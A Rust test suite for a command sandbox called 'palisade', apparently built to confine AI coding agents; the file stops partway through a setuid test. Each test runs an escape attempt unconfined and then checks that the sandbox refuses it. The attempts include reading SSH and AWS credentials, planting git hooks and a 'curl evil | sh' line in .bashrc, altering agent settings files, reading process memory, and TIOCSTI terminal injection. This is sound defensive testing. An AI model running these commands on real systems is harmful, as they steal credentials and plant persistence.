//! `palisade run` as attacks: each test first shows the action works
//! unconfined, then that the sandbox stops it (or passes what it should).

#![allow(clippy::expect_used, clippy::unwrap_used)]

mod common;

use std::path::Path;
use std::process::{Command, Output};

/// The binary, with the audit log off: these tests use the real HOME, and
/// the log is tested on its own, in a log of its own.
fn palisade() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_palisade"));
    c.env("PALISADE_AUDIT", "off");
    c
}

fn sh(dir: &Path, script: &str, sandboxed: bool, extra: &[&str]) -> Output {
    let mut c = if sandboxed {
        let mut c = palisade();
        c.arg("run").args(extra).args(["--", "sh", "-c", script]);
        c
    } else {
        let mut c = Command::new("sh");
        c.args(["-c", script]);
        c
    };
    c.current_dir(dir)
        .env("GITHUB_TOKEN", "ghp_not_a_real_token_for_tests_0000")
        .env("AWS_SECRET_ACCESS_KEY", "not-a-real-key")
        .env("FOO", "bar")
        .output()
        .expect("run")
}

struct Dirs {
    _t: tempfile::TempDir,
    proj: std::path::PathBuf,
    outside: std::path::PathBuf,
}

fn dirs() -> Dirs {
    let t = tempfile::tempdir().unwrap();
    let proj = t.path().join("proj");
    let outside = t.path().join("outside");
    std::fs::create_dir_all(&proj).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    Dirs {
        proj: proj.canonicalize().unwrap(),
        outside: outside.canonicalize().unwrap(),
        _t: t,
    }
}

#[test]
fn writes_outside_the_project_are_refused_however_they_are_spelled() {
    let d = dirs();
    let target = d.outside.join("pwned");
    for script in [
        format!("echo x > {}", target.display()),
        "echo x > ../outside/pwned".to_string(),
        format!("mkdir {}/newdir", d.outside.display()),
        format!(
            "touch {}/f && mv {}/f {}/moved",
            d.proj.display(),
            d.proj.display(),
            d.outside.display()
        ),
    ] {
        let _ = std::fs::remove_file(&target);
        let _ = std::fs::remove_dir(d.outside.join("newdir"));
        let _ = std::fs::remove_file(d.outside.join("moved"));
        let free = sh(&d.proj, &script, false, &[]);
        assert!(free.status.success(), "works unconfined: {script}");
        for p in ["pwned", "newdir", "moved"] {
            let _ = std::fs::remove_file(d.outside.join(p));
            let _ = std::fs::remove_dir(d.outside.join(p));
        }
        let boxed = sh(&d.proj, &script, true, &[]);
        assert!(!boxed.status.success(), "sandboxed must fail: {script}");
        for p in ["pwned", "newdir", "moved"] {
            assert!(!d.outside.join(p).exists(), "{script} created {p}");
        }
    }
}

#[test]
fn symlink_and_hard_link_escapes_are_refused() {
    let d = dirs();
    std::fs::write(d.outside.join("victim"), "original").unwrap();
    std::os::unix::fs::symlink(&d.outside, d.proj.join("link")).unwrap();
    // A symlink made earlier, and one made during the run.
    for script in [
        "echo pwned > link/victim".to_string(),
        format!("ln -s {} l2 && echo pwned > l2/victim", d.outside.display()),
    ] {
        let _ = std::fs::remove_file(d.proj.join("l2"));
        let boxed = sh(&d.proj, &script, true, &[]);
        assert!(!boxed.status.success(), "{script}");
        assert_eq!(
            std::fs::read_to_string(d.outside.join("victim")).unwrap(),
            "original"
        );
    }
    // A hard link inside the project to a file outside cannot be made.
    let boxed = sh(
        &d.proj,
        &format!("ln {}/victim hard", d.outside.display()),
        true,
        &[],
    );
    assert!(!boxed.status.success());
    assert!(!d.proj.join("hard").exists());
    // Unconfined, the same symlink write works.
    assert!(sh(&d.proj, "echo pwned > link/victim", false, &[])
        .status
        .success());
}

#[test]
fn the_project_and_a_private_tmp_are_writable_and_the_status_passes_through() {
    let d = dirs();
    let o = sh(
        &d.proj,
        "echo ok > inside.txt && echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\" && exit 7",
        true,
        &[],
    );
    assert_eq!(
        o.status.code(),
        Some(7),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&o.stdout), "t\n");
    assert_eq!(
        std::fs::read_to_string(d.proj.join("inside.txt")).unwrap(),
        "ok\n"
    );
    // --allow-write adds a root.
    let o = sh(
        &d.proj,
        &format!("echo y > {}/allowed", d.outside.display()),
        true,
        &["--allow-write", d.outside.to_str().unwrap()],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    // Killed by a signal: 128 + N.
    assert_eq!(
        sh(&d.proj, "kill -TERM $$", true, &[]).status.code(),
        Some(143)
    );
    assert_eq!(
        sh(&d.proj, "exec no-such-program-xyz", true, &[])
            .status
            .code(),
        Some(127)
    );
}

#[test]
fn credentials_in_the_environment_do_not_reach_the_command() {
    let d = dirs();
    let script = "echo \"[$GITHUB_TOKEN][$AWS_SECRET_ACCESS_KEY][$FOO][$PATH]\"";
    let free = sh(&d.proj, script, false, &[]);
    assert!(String::from_utf8_lossy(&free.stdout).contains("ghp_not_a_real"));
    let boxed = sh(&d.proj, script, true, &["--verbose"]);
    let out = String::from_utf8_lossy(&boxed.stdout);
    assert!(out.starts_with("[][][]["), "{out}");
    assert!(!out.ends_with("[]\n"), "PATH passes: {out}");
    let err = String::from_utf8_lossy(&boxed.stderr);
    assert!(
        err.contains("GITHUB_TOKEN") && err.contains("AWS_SECRET_ACCESS_KEY"),
        "{err}"
    );
    assert!(
        !err.contains("ghp_not_a_real"),
        "names only, never values: {err}"
    );
    let passed = sh(&d.proj, script, true, &["--env-pass", "FOO"]);
    assert!(String::from_utf8_lossy(&passed.stdout).starts_with("[][][bar]["));
}

/// ptrace, io_uring and process_vm_readv (on the parent: the agent) are
/// refused by the seccomp filter; unconfined they are not (`process_vm_readv`
/// at a bad address fails with EFAULT there, so the call was allowed).
#[cfg(target_arch = "x86_64")]
#[test]
fn the_seccomp_filter_refuses_process_and_kernel_attack_syscalls() {
    let d = dirs();
    let probe = d.proj.join("probe.py");
    std::fs::write(
        &probe,
        r#"import ctypes, ctypes.util, os
libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
libc.syscall.restype = ctypes.c_long
def err(r):
    return 0 if r >= 0 else ctypes.get_errno()
out = []
out.append(err(libc.ptrace(0, 0, None, None)))  # PTRACE_TRACEME
buf = ctypes.create_string_buffer(256)
out.append(err(libc.syscall(425, 4, buf)))  # io_uring_setup
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
local = ctypes.create_string_buffer(8)
l = iovec(ctypes.cast(local, ctypes.c_void_p), 8)
rm = iovec(0x10, 8)
out.append(err(libc.syscall(310, os.getppid(), ctypes.byref(l), 1, ctypes.byref(rm), 1, 0)))
print(" ".join(map(str, out)))
"#,
    )
    .unwrap();
    let run = |sandboxed: bool| {
        let o = sh(&d.proj, "python3 probe.py", sandboxed, &[]);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stdout).trim().to_string()
    };
    let free = run(false);
    let errnos: Vec<i32> = free.split(' ').map(|x| x.parse().unwrap()).collect();
    assert_eq!(errnos[0], 0, "ptrace works unconfined: {free}");
    assert_ne!(
        errnos[2], EPERM,
        "process_vm_readv is allowed unconfined: {free}"
    );
    assert_eq!(run(true), format!("{EPERM} {EPERM} {EPERM}"));
}

/// `EPERM` on Linux.
const EPERM: i32 = 1;

/// `~/.ssh`, `~/.aws`, `~/.netrc` (hidden by default) and a `--deny-read`
/// file cannot be read; unconfined they can.
#[test]
fn credential_paths_and_deny_read_paths_are_hidden() {
    let d = dirs();
    let home = d.outside.join("home");
    for (rel, text) in [
        (".ssh/id_ed25519", "SSH-PRIVATE"),
        (".aws/credentials", "AWS-CREDS"),
        (".netrc", "NETRC-PASSWORD"),
    ] {
        let p = home.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    std::fs::write(d.proj.join(".env"), "DOTENV-SECRET").unwrap();
    let script =
        "cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc .env 2>/dev/null; ls ~/.ssh; true";
    let run = |sandboxed: bool| {
        let mut c = if sandboxed {
            let mut c = palisade();
            c.args(["run", "--deny-read", ".env", "--", "sh", "-c", script]);
            c
        } else {
            let mut c = Command::new("sh");
            c.args(["-c", script]);
            c
        };
        let o = c.current_dir(&d.proj).env("HOME", &home).output().unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let free = run(false);
    for s in [
        "SSH-PRIVATE",
        "AWS-CREDS",
        "NETRC-PASSWORD",
        "DOTENV-SECRET",
        "id_ed25519",
    ] {
        assert!(free.contains(s), "readable unconfined: {s}");
    }
    let boxed = run(true);
    for s in [
        "SSH-PRIVATE",
        "AWS-CREDS",
        "NETRC-PASSWORD",
        "DOTENV-SECRET",
        "id_ed25519",
    ] {
        assert!(!boxed.contains(s), "hidden in the sandbox: {s}: {boxed}");
    }
    // The hidden paths are read-only too: nothing can be planted there.
    let o = palisade()
        .args(["run", "--allow-write"])
        .arg(&home)
        .args(["--", "sh", "-c", "echo evil > ~/.ssh/authorized_keys"])
        .current_dir(&d.proj)
        .env("HOME", &home)
        .output()
        .unwrap();
    assert!(!o.status.success());
    assert!(!home.join(".ssh/authorized_keys").exists());
}

/// A server on the host's loopback (a stand-in for a local database, a
/// docker API or a metadata proxy) is reachable unconfined and with
/// `--allow-network`, not from the default sandbox; the sandbox's own
/// loopback still works.
#[test]
fn the_network_is_cut_off_by_default_including_host_loopback() {
    let d = dirs();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            drop(stream);
        }
    });
    let script = format!(
        "python3 -c \"import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=3); print('host:reached')\nexcept OSError: print('host:refused')\ns = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); socket.create_connection(s.getsockname(), timeout=3); print('own:ok')\""
    );
    let out = |o: Output| String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(out(sh(&d.proj, &script, false, &[])).contains("host:reached"));
    let boxed = out(sh(&d.proj, &script, true, &[]));
    assert!(boxed.contains("host:refused"), "{boxed}");
    assert!(
        boxed.contains("own:ok"),
        "the sandbox's loopback works: {boxed}"
    );
    let open = out(sh(&d.proj, &script, true, &["--allow-network"]));
    assert!(open.contains("host:reached"), "{open}");
}

fn git(dir: &Path, args: &[&str]) {
    let o = Command::new("git")
        .args(args)
        .current_dir(dir)
        .output()
        .expect("git");
    assert!(o.status.success(), "git {args:?}: {o:?}");
}

/// Files that something outside the sandbox later runs or trusts (git
/// hooks and config, agent settings, shell start-up files) cannot be
/// created or changed, though the project is writable; placeholders for
/// the missing ones leave no trace.
#[test]
fn protected_names_cannot_be_created_or_changed() {
    let d = dirs();
    git(&d.proj, &["init", "-q"]);
    let config = std::fs::read_to_string(d.proj.join(".git/config")).unwrap();
    let attacks = [
        "echo 'echo pwned' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        "git config core.hooksPath /tmp/evil",
        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config",
        "echo 'curl evil | sh' >> .bashrc",
        "echo '{\"mcpServers\":{}}' > .mcp.json",
        "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json",
        "echo '{}' > x.json && mv x.json .vscode/tasks.json",
        "rm -f .git/config",
        "echo 'export X=1' > .envrc",
    ];
    // Unconfined, each attack works (on a copy of the project).
    let copy = d.outside.join("copy");
    std::fs::create_dir(&copy).unwrap();
    git(&copy, &["init", "-q"]);
    std::fs::create_dir(copy.join(".vscode")).unwrap();
    for a in attacks {
        let o = sh(&copy, a, false, &[]);
        assert!(o.status.success(), "works unconfined: {a}: {o:?}");
        git(&copy, &["init", "-q"]);
    }
    for a in attacks {
        let o = sh(&d.proj, a, true, &[]);
        assert!(!o.status.success(), "refused in the sandbox: {a}");
    }
    assert_eq!(
        std::fs::read_to_string(d.proj.join(".git/config")).unwrap(),
        config
    );
    assert!(!d.proj.join(".git/hooks/pre-commit").exists());
    std::fs::remove_file(d.proj.join("x.json")).unwrap();
    // Placeholders were removed, git never saw them, and the project's own
    // files are writable as ever.
    let o = sh(
        &d.proj,
        "git status --porcelain --untracked-files=all && echo ok > normal.txt",
        true,
        &[],
    );
    assert!(o.status.success(), "{o:?}");
    assert_eq!(String::from_utf8_lossy(&o.stdout), "", "git shows nothing");
    let mut left: Vec<String> = std::fs::read_dir(&d.proj)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left, [".git", "normal.txt"]);
    let exclude = std::fs::read_to_string(d.proj.join(".git/info/exclude")).unwrap_or_default();
    assert!(!exclude.contains("palisade"), "{exclude}");
    // With the home directory writable, its shell start-up files are
    // still protected, existing or not.
    let home = d.outside.join("home");
    std::fs::create_dir(&home).unwrap();
    std::fs::write(home.join(".profile"), "# mine\n").unwrap();
    let script = "echo 'curl evil | sh' >> ~/.bashrc; echo 'curl evil | sh' >> ~/.profile; \
                  echo ok > ~/notes.txt";
    let o = palisade()
        .args(["run", "--allow-write"])
        .arg(&home)
        .args(["--", "sh", "-c", script])
        .current_dir(&d.proj)
        .env("HOME", &home)
        .output()
        .unwrap();
    assert!(o.status.success(), "the home is writable: {o:?}");
    assert!(!home.join(".bashrc").exists(), "no placeholder left");
    assert_eq!(
        std::fs::read_to_string(home.join(".profile")).unwrap(),
        "# mine\n"
    );
    assert_eq!(
        std::fs::read_to_string(home.join("notes.txt")).unwrap(),
        "ok\n"
    );
}

/// Processes the command leaves behind — a new session, a double fork,
/// `nohup` — are killed when it exits (the sandbox's pid namespace ends).
#[test]
fn no_process_outlives_the_sandbox() {
    let d = dirs();
    let script = "setsid sh -c 'sleep 1; echo x > escaped-setsid' >/dev/null 2>&1 & \
                  (sh -c 'sleep 1; echo x > escaped-fork' >/dev/null 2>&1 &) ; \
                  nohup sh -c 'sleep 1; echo x > escaped-nohup' >/dev/null 2>&1 & \
                  exit 0";
    let names = ["escaped-setsid", "escaped-fork", "escaped-nohup"];
    let free = d.outside.join("free");
    std::fs::create_dir(&free).unwrap();
    assert!(sh(&free, script, false, &[]).status.success());
    assert!(sh(&d.proj, script, true, &[]).status.success());
    std::thread::sleep(std::time::Duration::from_millis(2500));
    for n in names {
        assert!(free.join(n).exists(), "outlives its shell unconfined: {n}");
        assert!(!d.proj.join(n).exists(), "killed with the sandbox: {n}");
    }
}

/// `/proc` shows only the sandbox's processes: not the parent's
/// environment or memory, not the host's pids, and `/proc/*/root` and
/// `cwd` lead nowhere Landlock does not already cover.
#[test]
fn proc_shows_only_the_sandbox() {
    let d = dirs();
    let me = std::process::id().to_string();
    let script = format!(
        "kill -0 {me} && echo parent:visible; \
         cat /proc/$PPID/environ /proc/1/environ 2>/dev/null | tr '\\0' '\\n' | grep -c PALISADE_CANARY; \
         python3 -c \"import os\nfor pid in ({me}, 1):\n    try:\n        lo = int(open(f'/proc/{{pid}}/maps').readline().split('-')[0], 16)\n        f = open(f'/proc/{{pid}}/mem', 'rb'); f.seek(lo); f.read(16); print('mem:read', pid)\n    except OSError: pass\"; \
         for p in /proc/self/root /proc/1/root /proc/$$/cwd/..; do echo x > $p{out}/pwned-$(basename $p) 2>/dev/null && echo wrote:$p; done; \
         ls /proc | grep -c '^[0-9]'; true",
        out = d.outside.display()
    );
    let run = |sandboxed: bool| {
        let mut c = if sandboxed {
            let mut c = palisade();
            c.args(["run", "--", "sh", "-c", &script]);
            c
        } else {
            let mut c = Command::new("sh");
            c.args(["-c", &script]);
            c
        };
        let o = c
            .current_dir(&d.proj)
            .env("PALISADE_CANARY", "secret")
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let free = run(false);
    assert!(free.contains("parent:visible"), "{free}");
    assert!(free.contains("mem:read"), "{free}");
    assert!(free.contains("wrote:/proc/self/root"), "{free}");
    for n in ["root", "cwd"] {
        let _ = std::fs::remove_file(d.outside.join(format!("pwned-{n}")));
    }
    let boxed = run(true);
    let lines: Vec<&str> = boxed.lines().collect();
    assert!(!boxed.contains("parent:visible"), "{boxed}");
    assert!(!boxed.contains("mem:read"), "{boxed}");
    assert!(!boxed.contains("wrote:"), "{boxed}");
    assert_eq!(lines.first(), Some(&"0"), "no environ readable: {boxed}");
    let pids: usize = lines.last().unwrap().parse().unwrap();
    assert!(pids < 10, "only the sandbox's processes: {boxed}");
    for n in ["root", "cwd"] {
        assert!(!d.outside.join(format!("pwned-{n}")).exists());
    }
}

/// A descriptor the caller leaked to palisade (here, a file outside the
/// project opened for appending) does not reach the command.
#[test]
fn inherited_descriptors_are_closed() {
    let d = dirs();
    let target = d.outside.join("via-fd");
    let script = format!(
        "exec 5>>{t}; {cmd} sh -c 'echo leaked >&5'",
        t = target.display(),
        cmd = "\"$PALISADE\""
    );
    let run = |prefix: &str| {
        Command::new("sh")
            .args(["-c", &script])
            .env("PALISADE", prefix)
            .current_dir(&d.proj)
            .output()
            .unwrap()
    };
    // Unconfined (`env` as the wrapper), the write through fd 5 works.
    assert!(run("env").status.success());
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "leaked\n");
    std::fs::write(&target, "").unwrap();
    let wrapper = format!("{} run --", env!("CARGO_BIN_EXE_palisade"));
    let script2 = script.replace("\"$PALISADE\"", &wrapper);
    let o = Command::new("sh")
        .args(["-c", &script2])
        .env("PALISADE_AUDIT", "off")
        .current_dir(&d.proj)
        .output()
        .unwrap();
    assert!(!o.status.success());
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "");
}

/// Host services on unix sockets — a Docker API in the user's runtime
/// directory, an ssh-agent in /tmp — and abstract sockets are out of reach,
/// with and without `--allow-network`.
#[test]
fn host_unix_sockets_are_out_of_reach() {
    let d = dirs();
    let runtime = tempfile::tempdir().unwrap();
    let agent_dir = tempfile::Builder::new().prefix("ssh-").tempdir().unwrap();
    let docker = runtime.path().join("docker.sock");
    let agent = agent_dir.path().join("agent.1");
    let abstract_name = format!("palisade-test-{}", std::process::id());
    let server = format!(
        "import socket, threading\n\
         def serve(s):\n    while True:\n        c, _ = s.accept(); c.sendall(b'hello'); c.close()\n\
         for path in [{docker:?}, {agent:?}, '\\0{abstract_name}']:\n    \
         s = socket.socket(socket.AF_UNIX); s.bind(path); s.listen(); threading.Thread(target=serve, args=(s,), daemon=True).start()\n\
         print('ready', flush=True)\n\
         import time; time.sleep(60)\n",
        docker = docker.to_str().unwrap(),
        agent = agent.to_str().unwrap(),
    );
    let mut srv = Command::new("python3")
        .args(["-c", &server])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(srv.stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    assert_eq!(line, "ready\n");
    let client = format!(
        "python3 -c \"import socket\nfor p in ['{}', '{}', '\\\\0{abstract_name}']:\n    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(p); print('reached', s.recv(5).decode())\n    except OSError as e: print('refused', e.errno)\"",
        docker.display(),
        agent.display(),
    );
    let run = |sandboxed: bool, extra: &[&str]| {
        let mut c = if sandboxed {
            let mut c = palisade();
            c.arg("run").args(extra).args(["--", "sh", "-c", &client]);
            c
        } else {
            let mut c = Command::new("sh");
            c.args(["-c", &client]);
            c
        };
        let o = c
            .current_dir(&d.proj)
            .env("XDG_RUNTIME_DIR", runtime.path())
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let free = run(false, &[]);
    assert_eq!(free.matches("reached hello").count(), 3, "{free}");
    for extra in [&[][..], &["--allow-network"][..]] {
        let boxed = run(true, extra);
        assert_eq!(boxed.matches("refused").count(), 3, "{extra:?}: {boxed}");
    }
    let _ = srv.kill();
    let _ = srv.wait();
}

/// Shared memory, sysfs and procfs tunables are not writable (Landlock
/// covers every filesystem, not only disks).
#[test]
fn dev_shm_sys_and_proc_sys_are_not_writable() {
    let d = dirs();
    let shm = format!("/dev/shm/palisade-test-{}", std::process::id());
    // Writing a tunable's current value back changes nothing on the host.
    let script = format!(
        "echo x > {shm} && echo shm:ok; \
         v=$(cat /proc/sys/vm/overcommit_ratio) && echo $v > /proc/sys/vm/overcommit_ratio && echo procsys:ok; \
         v=$(cat /sys/class/net/lo/mtu) && echo $v > /sys/class/net/lo/mtu && echo sys:ok; true"
    );
    let free = String::from_utf8_lossy(&sh(&d.proj, &script, false, &[]).stdout).into_owned();
    let _ = std::fs::remove_file(&shm);
    let boxed = String::from_utf8_lossy(&sh(&d.proj, &script, true, &[]).stdout).into_owned();
    for w in ["shm:ok", "procsys:ok", "sys:ok"] {
        if free.contains(w) {
            assert!(!boxed.contains(w), "{w} in the sandbox: {boxed}");
        } else {
            eprintln!("skipped {w}: not writable here even unconfined");
        }
    }
    assert!(!Path::new(&shm).exists());
}

/// Is `tool` on PATH? Attack tests that need it say so and pass when not.
fn has(tool: &str) -> bool {
    let found = Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()
        .is_ok_and(|o| o.status.success());
    if !found {
        eprintln!("skipped: {tool} is not installed");
    }
    found
}

/// Runs `python3 probe.py` (written from `code`) unconfined or in the
/// sandbox with `extra` flags, and returns its stdout, trimmed.
fn python(d: &Dirs, code: &str, sandboxed: bool, extra: &[&str]) -> String {
    std::fs::write(d.proj.join("probe.py"), code).unwrap();
    let o = sh(&d.proj, "python3 probe.py", sandboxed, extra);
    assert!(
        o.status.success(),
        "sandboxed={sandboxed}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

fn errnos(out: &str) -> Vec<i32> {
    out.split_whitespace().map(|x| x.parse().unwrap()).collect()
}

/// `unshare -r` (a new user namespace: root again, with mount rights) and
/// `unshare -m` (a new mount namespace, where the hiding mounts could be
/// undone) work unconfined as root; in the sandbox the seccomp filter
/// refuses them, although the sandbox's own user namespace would allow
/// both (#6).
#[test]
fn unshare_cannot_regain_mount_rights() {
    if !has("unshare") {
        return;
    }
    let d = dirs();
    let script = "unshare -r true && echo r:ok; unshare -m true && echo m:ok; true";
    let free = String::from_utf8_lossy(&sh(&d.proj, script, false, &[]).stdout).into_owned();
    if !free.contains("r:ok") {
        eprintln!("skipped: user namespaces are unavailable here even unconfined");
        return;
    }
    let o = sh(&d.proj, script, true, &[]);
    let boxed = String::from_utf8_lossy(&o.stdout);
    assert_eq!(boxed.trim(), "", "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stderr).contains("Operation not permitted"));
}

/// TIOCSTI pushes keystrokes into a terminal: here a fresh pty made the
/// probe's controlling terminal, which needs no privilege; the same
/// request with junk in the upper 32 bits (which the kernel ignores) is
/// tried too. TIOCLINUX needs a Linux console: on a pty it fails with
/// another error unconfined (#6).
#[test]
fn terminal_injection_is_refused() {
    if !has("python3") {
        return;
    }
    let d = dirs();
    let probe = r#"import ctypes, errno, fcntl, os, pty, termios
libc = ctypes.CDLL(None, use_errno=True)
def err(f):
    try:
        f(); return 0
    except OSError as e:
        return e.errno
master, slave = pty.openpty()
name = os.ttyname(slave)
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    tty = os.open(name, os.O_RDWR)  # becomes the controlling terminal
    def high():
        if libc.ioctl(tty, ctypes.c_ulong(0x100000000 | termios.TIOCSTI), ctypes.c_char_p(b"x")) != 0:
            raise OSError(ctypes.get_errno(), "ioctl")
    out = [err(lambda: fcntl.ioctl(tty, termios.TIOCSTI, b"x")), err(high),
           err(lambda: fcntl.ioctl(tty, 0x541C, b"\x00"))]  # TIOCLINUX
    os.write(w, " ".join(map(str, out)).encode()); os._exit(0)
os.close(w); os.wait()
print(os.read(r, 100).decode())
"#;
    let free = errnos(&python(&d, probe, false, &[]));
    assert_eq!(&free[..2], &[0, 0], "TIOCSTI works unconfined");
    assert_ne!(free[2], EPERM, "TIOCLINUX is not refused unconfined");
    assert_eq!(
        errnos(&python(&d, probe, true, &[])),
        vec![EPERM, EPERM, EPERM]
    );
}

/// Raw IP, packet, vsock, AF_ALG, AF_KEY and non-route netlink sockets
/// (audit, uevents, nf_tables) open unconfined as root (or fail only
/// because this kernel lacks the family); in the sandbox they get EPERM,
/// also with SOCK_CLOEXEC | SOCK_NONBLOCK in the type. NETLINK_ROUTE,
/// Unix and ordinary IP sockets still work (#6).
#[test]
fn raw_packet_vsock_and_netlink_sockets_are_refused() {
    if !has("python3") {
        return;
    }
    let d = dirs();
    let probe = r#"import socket
S = socket
tries = [
    (S.AF_INET, S.SOCK_RAW, S.IPPROTO_ICMP),
    (S.AF_INET6, S.SOCK_RAW | S.SOCK_CLOEXEC | S.SOCK_NONBLOCK, S.IPPROTO_ICMPV6),
    (S.AF_PACKET, S.SOCK_RAW, 0x0300),
    (S.AF_INET, 10, 0x0300),  # SOCK_PACKET
    (S.AF_NETLINK, S.SOCK_RAW, 9),  # NETLINK_AUDIT
    (S.AF_NETLINK, S.SOCK_DGRAM | S.SOCK_CLOEXEC, 15),  # NETLINK_KOBJECT_UEVENT
    (S.AF_NETLINK, S.SOCK_RAW, 12),  # NETLINK_NETFILTER
    (40, S.SOCK_STREAM, 0),  # AF_VSOCK
    (38, S.SOCK_SEQPACKET, 0),  # AF_ALG
    (15, S.SOCK_RAW, 2),  # AF_KEY, PF_KEY_V2
]
allowed = [
    (S.AF_NETLINK, S.SOCK_RAW | S.SOCK_CLOEXEC, 0),  # NETLINK_ROUTE
    (S.AF_UNIX, S.SOCK_STREAM, 0),
    (S.AF_INET, S.SOCK_STREAM, 0),
    (S.AF_INET6, S.SOCK_DGRAM, 0),
]
def err(f, t, p):
    try:
        socket.socket(f, t, p).close(); return 0
    except OSError as e:
        return e.errno
print(" ".join(str(err(*t)) for t in tries + allowed))
"#;
    let free = errnos(&python(&d, probe, false, &[]));
    if !nix_is_root() {
        eprintln!("skipped the unconfined half: raw sockets need root");
    } else {
        assert_eq!(&free[..5], &[0, 0, 0, 0, 0], "open unconfined: {free:?}");
        assert!(
            free.iter().all(|&e| e != EPERM),
            "not refused unconfined: {free:?}"
        );
    }
    let boxed = errnos(&python(&d, probe, true, &[]));
    assert_eq!(boxed, [vec![EPERM; 10], vec![0; 4]].concat());
}

/// bpf (an array map), userfaultfd, keyctl, the new mount API (open_tree
/// of /tmp, fsopen) and clone3 work unconfined as root; in the sandbox the
/// first four get EPERM and clone3 ENOSYS, so that libc falls back to
/// clone(2) (#6). x86_64 system call numbers.
#[cfg(target_arch = "x86_64")]
#[test]
fn bpf_userfaultfd_keyctl_mount_api_and_clone3_are_refused() {
    if !has("python3") {
        return;
    }
    let d = dirs();
    let probe = r#"import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def err(*args):
    r = libc.syscall(*args)
    return 0 if r >= 0 else ctypes.get_errno()
attr = (ctypes.c_uint32 * 32)(2, 4, 4, 1)  # BPF_MAP_TYPE_ARRAY, key 4, value 4, 1 entry
out = [
    err(321, 0, attr, ctypes.sizeof(attr)),  # bpf(BPF_MAP_CREATE)
    err(323, os.O_CLOEXEC),  # userfaultfd
    err(250, 0, ctypes.c_long(-4), 1),  # keyctl(GET_KEYRING_ID, USER_KEYRING, create)
    err(428, -100, b"/tmp", 1),  # open_tree(AT_FDCWD, "/tmp", OPEN_TREE_CLONE)
    err(430, b"tmpfs", 0),  # fsopen
    err(435, None, 0),  # clone3 without arguments: EINVAL if it is allowed
]
print(" ".join(map(str, out)))
"#;
    let free = errnos(&python(&d, probe, false, &[]));
    if nix_is_root() {
        assert_eq!(free, vec![0, 0, 0, 0, 0, libc_einval()], "{free:?}");
    } else {
        eprintln!("skipped the unconfined half: bpf and the mount API need root");
    }
    assert_eq!(
        errnos(&python(&d, probe, true, &[])),
        vec![EPERM, EPERM, EPERM, EPERM, EPERM, ENOSYS]
    );
}

/// `ENOSYS` on Linux.
const ENOSYS: i32 = 38;

fn libc_einval() -> i32 {
    22
}

fn nix_is_root() -> bool {
    String::from_utf8_lossy(&Command::new("id").arg("-u").output().unwrap().stdout).trim() == "0"
}

/// What the filter must not break: threads, fork, posix_spawn, subprocess,
/// bash pipelines and substitutions, getaddrinfo, route netlink, git.
#[test]
fn threads_fork_spawn_and_common_tools_still_work() {
    if !has("python3") || !has("git") {
        return;
    }
    let d = dirs();
    let probe = r#"import concurrent.futures, os, socket, subprocess, threading
t = threading.Thread(target=lambda: None); t.start(); t.join()
with concurrent.futures.ThreadPoolExecutor(8) as ex:
    assert list(ex.map(lambda x: x * 2, range(8))) == [x * 2 for x in range(8)]
pid = os.posix_spawn("/bin/sh", ["sh", "-c", "exit 3"], os.environ)
assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 3
pid = os.fork()
if pid == 0:
    os._exit(4)
assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 4
out = subprocess.run(["bash", "-c", "x=$(echo hi | cat); (exit 0) && echo $x"], capture_output=True, text=True, check=True)
assert out.stdout == "hi\n"
socket.getaddrinfo("localhost", 80)
subprocess.run(["git", "init", "-q", "repo"], check=True)
subprocess.run(["git", "-C", "repo", "-c", "user.name=a", "-c", "user.email=a@b.c", "commit", "-q", "--allow-empty", "-m", "m"], check=True)
print("ok")
"#;
    assert_eq!(python(&d, probe, false, &[]), "ok");
    std::fs::remove_dir_all(d.proj.join("repo")).unwrap();
    assert_eq!(python(&d, probe, true, &[]), "ok");
}

/// A setuid-root program run by an unprivileged user gains root
/// unconfined; in the sandbox NO_NEW_PRIVS is set and the setuid bit is
/// ignored. Needs root to make the program and `setpriv` to drop to
/// `nobody`; `NoNewPrivs` is checked in any case (#6).
#[test]
fn setuid_programs_gain_nothing() {
    let d = dirs();
    let nnp = |sandboxed| {
